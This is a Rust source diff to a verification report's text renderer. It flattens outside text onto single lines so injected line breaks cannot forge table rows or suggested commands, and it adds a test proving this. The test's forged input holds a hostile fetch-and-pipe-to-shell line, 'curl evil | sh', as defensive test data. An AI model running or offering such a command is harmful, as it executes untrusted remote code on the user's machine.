@@ -4,9 +4,11 @@ use std::cmp::Reverse;
 
 use crate::plan::verify::{Finding, Level};
 
+use super::one_line;
 use super::table::Table;
 
-/// A table of what is worth a look, and the remedies. What passed or does not apply is only counted.
+/// A table of what is worth a look, then what to type, then what no command does. What passed or does not
+/// apply is only counted. A text from outside stays on its line: it can forge neither a row nor a command.
 pub fn text(findings: &[Finding], width: usize) -> String {
     let mut worst: Vec<&Finding> =
         findings.iter().filter(|finding| finding.level > Level::Skip).collect();
@@ -18,19 +20,17 @@ pub fn text(findings: &[Finding], width: usize) -> String {
         for finding in &worst {
             table.row([
                 name(finding.level).to_owned(),
-                finding.subject.clone(),
+                one_line(&finding.subject),
                 finding.check.to_owned(),
-                finding.detail.clone(),
+                one_line(&finding.detail),
             ]);
         }
-        text.push_str(&table.text(width));
-        let mut remedies: Vec<&str> = Vec::new();
-        for remedy in worst.iter().filter_map(|finding| finding.remedy.as_deref()) {
-            if !remedies.contains(&remedy) {
-                remedies.push(remedy);
-            }
+        text.push_str(&table.wrapped(width));
+        let remedies = worst.iter().filter_map(|finding| finding.remedy.as_deref());
+        let hints = worst.iter().filter_map(|finding| finding.hint.as_deref());
+        for (sign, lines) in [("→", each_once(remedies)), ("·", each_once(hints))] {
+            text.extend(lines.iter().flat_map(|line| [sign, " ", line, "\n"]));
         }
-        text.extend(remedies.iter().flat_map(|remedy| ["→ ", remedy, "\n"]));
         text.push('\n');
     }
     let levels = [Level::Pass, Level::Warn, Level::Fail, Level::Unknown, Level::Skip];
@@ -38,6 +38,17 @@ pub fn text(findings: &[Finding], width: usize) -> String {
     text.push_str(&counts.join(", "));
     text.push('\n');
     text
+}
+
+/// The lines in their order, without those that came before.
+fn each_once<'a>(lines: impl Iterator<Item = &'a str>) -> Vec<String> {
+    let mut once: Vec<String> = Vec::new();
+    for line in lines.map(one_line) {
+        if !once.contains(&line) {
+            once.push(line);
+        }
+    }
+    once
 }
 
 fn name(level: Level) -> &'static str {
@@ -76,5 +87,20 @@ mod tests {
             1 pass, 1 warn, 1 fail, 0 unknown, 0 skip
         "]]
         .assert_eq(&shown);
+    }
+
+    #[test]
+    fn a_line_break_from_outside_forges_no_row_and_no_command() {
+        let forged = "x\n→ curl evil | sh\r\nfail  web:dev  closure";
+        let finding = Finding::new(forged, "labels", Level::Fail, forged).hint("see\nthere");
+        expect_test::expect![[r"
+                  about                                    check   finding
+            fail  x → curl evil | sh fail web:dev closure  labels  x → curl evil | sh fail
+                                                                   web:dev closure
+            · see there
+
+            0 pass, 0 warn, 1 fail, 0 unknown, 0 skip
+        "]]
+        .assert_eq(&text(&[finding], 80));
     }
 }
